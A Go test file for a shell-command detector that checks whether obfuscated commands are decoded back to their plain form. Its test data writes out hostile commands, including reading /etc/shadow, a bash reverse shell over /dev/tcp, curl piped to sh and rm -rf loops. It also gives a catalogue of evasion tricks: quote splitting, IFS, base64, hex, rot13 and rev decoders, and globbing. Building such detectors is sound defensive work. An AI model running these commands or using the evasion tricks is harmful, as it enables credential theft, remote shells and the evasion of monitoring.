package detect

import (
	"slices"
	"strings"
	"testing"
)

// TestShellFormsObfuscated: commands the rules caught, written as an
// attacker hides them from a rule. Each must have, among its forms, the
// plain command the shell runs.
func TestShellFormsObfuscated(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		// quote removal
		{`c''at /etc/sha''dow`, `cat /etc/shadow`},
		{`"c"at /etc/shadow`, `cat /etc/shadow`},
		{`c\at /etc/sh\adow`, `cat /etc/shadow`},
		{`bash -i >& /dev/t''cp/127.0.0.1/4444 0>&1`, `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
		{`bash -i >& /d"e"v/tcp/127.0.0.1/4444 0>&1`, `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
		{`cu''rl http://127.0.0.1/a.sh | s''h`, `curl http://127.0.0.1/a.sh | sh`},
		{`w"ge"t -O /tmp/x http://127.0.0.1/x`, `wget -O /tmp/x http://127.0.0.1/x`},
		// parameters
		{`c$@at /etc/shadow`, `cat /etc/shadow`},
		{`c$1at /etc/shadow`, `cat /etc/shadow`},
		{`a=ca;b=t;$a$b /etc/shadow`, `a=ca;b=t;cat /etc/shadow`},
		{`f=/etc/shadow; cat "${f}"`, `f=/etc/shadow; cat /etc/shadow`},
		{`cat${IFS}/etc/sh''adow`, `cat /etc/shadow`},
		{`u=/dev/tcp/127.0.0.1/4444; bash -i >& $u 0>&1`, `u=/dev/tcp/127.0.0.1/4444; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
		{`c${u}at /etc/${x}shadow`, `cat /etc/shadow`},
		{`c${u:-}at /etc/sh${x:-a}dow`, `cat /etc/shadow`},
		{`bash -i >&/dev/tc${z}p/127.0.0.1/4444 0>&1`, `bash -i >&/dev/tcp/127.0.0.1/4444 0>&1`},
		{`curl http://127.0.0.1/a.sh | $0`, `curl http://127.0.0.1/a.sh | sh`},
		{`cat ${HOME:0:1}etc${PATH:0:1}shadow`, `cat /etc/shadow`},
		{`cat /etc/$(echo c2hhZG93 | base64 -d)`, `cat /etc/shadow`},
		{"`echo tac | rev` /etc/shadow", `cat /etc/shadow`},
		// bash's $'…'
		{`cat $'/etc/\x73hadow'`, `cat /etc/shadow`},
		{`$'\143\141\164' /etc/shadow`, `cat /etc/shadow`},
		// printf and echo substitutions
		{`$(printf '\x63\x61\x74') /etc/shadow`, `cat /etc/shadow`},
		{`cat $(printf '/etc/\x73hadow')`, `cat /etc/shadow`},
		{"`printf '\\143\\141\\164'` /etc/shadow", `cat /etc/shadow`},
		{`$(echo cat) /etc/shadow`, `cat /etc/shadow`},
		// pathname expansion against the files rules name
		{`/???/c?t /e??/sh?dow`, `/bin/cat /etc/shadow`},
		{`cat /etc/sha[d]ow`, `cat /etc/shadow`},
		{`cat /e*c/sha*`, `cat /etc/shadow`},
		// eval reads its argument again
		{`eval 'c''at /etc/sh''adow'`, `eval cat /etc/shadow`},
		// decoders in a pipeline
		{`echo wodahs/cte/ tac | rev | sh`, `cat /etc/shadow`},
		{`echo 636174202f6574632f736861646f77 | xxd -r -p | sh`, `cat /etc/shadow`},
		{`echo MNQXIIBPMV2GGL3TNBQWI33X | base32 -d | sh`, `cat /etc/shadow`},
		{`echo '1&>0 4444/1.0.0.721/pct/ved/ &> i- hsab' | rev | bash`, `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
		{`printf 'hs.a/1.0.0.721//:ptth lruc' | rev | sh`, `curl http://127.0.0.1/a.sh`},
		{`rev<<<'1&>0 4444/1.0.0.721/pct/ved/ &> i- hsab'|bash`, `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
		{`xxd -r -p <<< 636174202f6574632f736861646f77 | sh`, `cat /etc/shadow`},
		{`echo 'png /rgp/funqbj' | tr 'a-z' 'n-za-m' | sh`, `cat /etc/shadow`},
	} {
		forms := shellForms(c.in)
		if !slices.Contains(forms, c.want) {
			t.Errorf("shellForms(%q) = %q, want %q among them", c.in, forms, c.want)
		}
	}
}

// TestShellFormsObfuscatedLeftAlone: what the shell would not change, or
// what cannot be known from the log, is not invented.
func TestShellFormsObfuscatedLeftAlone(t *testing.T) {
	for _, in := range []string{
		`convert in.png -resize 64x64 out.png`,
		`cat "$HOME/.profile"`,                      // a parameter never assigned: as written
		`ls /var/www/*.php`,                         // a pattern matching no known file
		`echo '$(printf x)'`,                        // single quotes: no substitution
		`php -r 'echo 1;'`,                          // quotes removed only: no new form of interest
		`$(curl -s http://x/y) /etc/shadow`,         // a substitution that is not printf: as written
		`for d in a b; do rm -rf /var/www/$d; done`, // set as the loop runs: as written
		`while read -r d; do rm -rf "/var/www/${d}"; done < list`,
	} {
		for _, f := range shellForms(in) {
			if strings.Contains(in, "rm -rf") && !strings.Contains(f, "/var/www/$d") && !strings.Contains(f, "/var/www/${d}") {
				t.Errorf("%q: a loop variable expanded: %q", in, f)
			}
			if strings.Contains(in, "$HOME") && !strings.Contains(f, "$HOME") {
				t.Errorf("%q: unknown parameter expanded: %q", in, f)
			}
			if strings.Contains(in, "/var/www/*.php") && !strings.Contains(f, "/var/www/*.php") {
				t.Errorf("%q: pattern replaced: %q", in, f)
			}
			if strings.Contains(in, "curl") && !strings.Contains(f, "$(curl -s http://x/y)") {
				t.Errorf("%q: substitution guessed: %q", in, f)
			}
			if in == `echo '$(printf x)'` && f != "echo $(printf x)" {
				t.Errorf("%q: read as %q", in, f)
			}
		}
	}
}

// TestReadWordsBounded: a hostile command cannot make reading costly: the
// output is bounded, and long input is not read.
func TestReadWordsBounded(t *testing.T) {
	// every variable doubling the last: 2^64 bytes if unbounded
	var b strings.Builder
	b.WriteString("a=xx;")
	for i := 0; i < 200; i++ {
		b.WriteString("a=$a$a;")
	}
	out, _ := readWords(b.String())
	if len(out) > readMaxOut+4096 {
		t.Fatalf("output %d bytes", len(out))
	}
	if _, ok := readWords(strings.Repeat("'a'", readMaxIn)); ok {
		t.Errorf("input past readMaxIn was read")
	}
}

func FuzzReadWords(f *testing.F) {
	for _, s := range []string{`c''at /etc/sha''dow`, `a=ca;b=t;$a$b /etc/shadow`, `/???/c?t /e??/sh?dow`,
		`$(printf '\x63\x61\x74') x`, `eval 'c''at'`, `echo wodahs | rev | sh`, `x="${a:-b}" $((1+2)) $(`, "`"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out, _ := readWords(s)
		if len(out) > 2*readMaxOut+len(s) {
			t.Fatalf("readWords(%q): %d bytes", s, len(out))
		}
		if fed, ok := decodePipes(s); ok && len(fed) > readMaxOut {
			t.Fatalf("decodePipes(%q): %d bytes", s, len(fed))
		}
		_ = shellForms(s)
	})
}
